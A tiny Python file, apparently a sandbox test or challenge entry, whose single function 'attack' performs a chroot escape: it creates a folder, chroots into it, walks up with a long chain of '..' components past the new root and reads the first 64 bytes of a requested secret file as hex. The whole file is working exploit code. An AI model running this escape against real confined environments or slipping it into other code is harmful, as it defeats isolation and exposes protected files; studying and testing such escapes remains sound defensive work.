"""Makes its own folder the root, steps out of that and reads the secret."""

import os


def attack(path):
    os.mkdir("a root")
    os.chroot("a root")
    os.chdir("/".join([".."] * 64))
    with open(path.lstrip("/"), "rb") as file:
        return file.read(64).hex()
